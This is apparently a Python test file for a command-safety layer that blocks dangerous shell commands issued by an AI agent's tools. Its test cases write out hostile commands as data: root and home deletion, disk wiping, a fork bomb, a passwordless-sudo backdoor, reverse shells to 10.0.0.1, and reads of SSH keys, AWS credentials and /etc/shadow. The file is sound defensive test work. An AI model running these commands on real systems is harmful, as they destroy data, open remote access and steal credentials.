"""Behaviour of the hardline rules (stage ⑦) on plain spellings."""

from __future__ import annotations

import pytest

from ethos_core.builtin.hardline import make_plugin
from ethos_core.runtime import HomePaths, Runtime
from ethos_core.types import Context, Personality, ToolCall
from tests.shell.helpers import CTX, hardline

CASES = [
    ("rm -rf /", "hardline.rm_root"),
    ("rm -rf ~", "hardline.rm_root"),
    ("rm -rf $HOME", "hardline.rm_root"),
    ("rm -rf /*", "hardline.rm_root"),
    ("rm -rf /usr", "hardline.rm_root"),
    ("rm -rf --no-preserve-root /tmp/x", "hardline.rm_root"),
    ("find / -delete", "hardline.rm_root"),
    ("find ~ -delete", "hardline.rm_root"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "hardline.block_device"),
    ("cat image.iso > /dev/sdb", "hardline.block_device"),
    ("wipefs -a /dev/nvme0n1", "hardline.block_device"),
    ("shred -n 1 /dev/mmcblk0", "hardline.block_device"),
    ("blkdiscard /dev/vda", "hardline.block_device"),
    ("mkfs.ext4 /dev/sdb1", "hardline.mkfs"),
    ("mkfs -t xfs /dev/xvdf", "hardline.mkfs"),
    (":(){ :|:& };:", "hardline.fork_bomb"),
    ("chmod -R 777 /", "hardline.chmod_root"),
    ("chown -R nobody /etc", "hardline.chmod_root"),
    ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "hardline.system_file_write"),
    ("tee /etc/sudoers.d/agent <<< 'agent ALL=(ALL) NOPASSWD:ALL'", "hardline.system_file_write"),
    ("cp key.pub ~/.ssh/authorized_keys", "hardline.system_file_write"),
    ("echo 1 > /proc/sys/kernel/sysrq", "hardline.system_file_write"),
    ("kill -9 -1", "hardline.kill_all"),
    ("kill -KILL -1", "hardline.kill_all"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "hardline.reverse_shell"),
    ("nc -e /bin/sh 10.0.0.1 4444", "hardline.reverse_shell"),
    ("socat TCP:10.0.0.1:4444 EXEC:/bin/bash", "hardline.reverse_shell"),
    ("cat ~/.ssh/id_rsa", "hardline.floor_read"),
    ("cat ~/.aws/credentials", "hardline.floor_read"),
    ("cat /etc/shadow", "hardline.floor_read"),
    ("cat /proc/1/environ", "hardline.floor_read"),
    ("sqlite3 ~/.ethos/state.db .dump", "hardline.floor_read"),
    ("echo hi > ~/.ethos/config.yaml.d", "hardline.none"),
]


@pytest.mark.parametrize(("command", "rule"), CASES)
def test_rule(command: str, rule: str) -> None:
    decision = hardline(command)
    assert decision.rule == rule, decision
    assert decision.denied is (rule != "hardline.none")


def test_decision_carries_evidence_and_hardline_risk() -> None:
    decision = hardline("sudo rm -rf /")
    assert decision.risk == "hardline"
    assert tuple(decision.evidence["matched"]) == ("rm", "-rf", "/")
    assert tuple(decision.evidence["via"]) == ("sudo",)
    assert "hardline.rm_root" in decision.evidence["rules"]


def test_non_command_tools_are_not_judged() -> None:
    decision = hardline_for(ToolCall("read_file", {"path": "/etc/shadow"}))
    assert decision.allowed and decision.rule == "hardline.none"


def test_exec_tool_with_command_arg_is_judged() -> None:
    decision = hardline_for(ToolCall("run", {"command": "rm -rf /"}, capabilities={"exec"}))
    assert decision.denied and decision.rule == "hardline.rm_root"


def test_shell_tool_without_string_command_is_denied() -> None:
    decision = hardline_for(ToolCall("shell", {"command": 42}, capabilities={"exec"}))
    assert decision.denied and decision.rule == "shell.unparseable"


def test_argv_list_command_is_joined() -> None:
    decision = hardline_for(ToolCall("run", {"command": ["rm", "-rf", "/"]}, capabilities={"exec"}))
    assert decision.denied and decision.rule == "hardline.rm_root"


def test_relative_paths_resolve_against_call_cwd() -> None:
    assert hardline("rm -rf *", cwd="/").rule == "hardline.rm_root"
    assert hardline("cat id_rsa", cwd="/home/dev/.ssh").rule == "hardline.floor_read"
    assert hardline("rm -rf *", cwd="/home/dev/project").allowed


def test_cd_is_tracked_within_a_script() -> None:
    assert hardline("cd / && rm -rf *").rule == "hardline.rm_root"
    assert hardline("cd ~/.aws; cat credentials").rule == "hardline.floor_read"


def test_builtin_plugin_uses_runtime_ethos_home(tmp_path: object) -> None:
    import pathlib

    root = pathlib.Path(str(tmp_path)) / "eh"
    plugin = make_plugin(Runtime(home=HomePaths(root)))
    call = ToolCall("shell", {"command": f"cat {root}/secrets/token"}, capabilities={"exec"})
    decision = plugin.ethos_hardline(call, CTX)  # type: ignore[attr-defined]
    assert decision.denied and decision.rule == "hardline.floor_read"


def test_default_personality_context_works() -> None:
    ctx = Context(Personality(id="x", directory="/tmp/x"))
    plugin = make_plugin(Runtime(home=HomePaths(__import__("pathlib").Path("/tmp/ethos-test-home"))))
    decision = plugin.ethos_hardline(ToolCall("shell", {"command": "ls"}, capabilities={"exec"}), ctx)  # type: ignore[attr-defined]
    assert decision.allowed


def hardline_for(call: ToolCall):  # type: ignore[no-untyped-def]
    from ethos_core.shell import judge_hardline
    from tests.shell.helpers import ETHOS_HOME, HOME

    return judge_hardline(call, CTX, home=HOME, ethos_home=ETHOS_HOME)
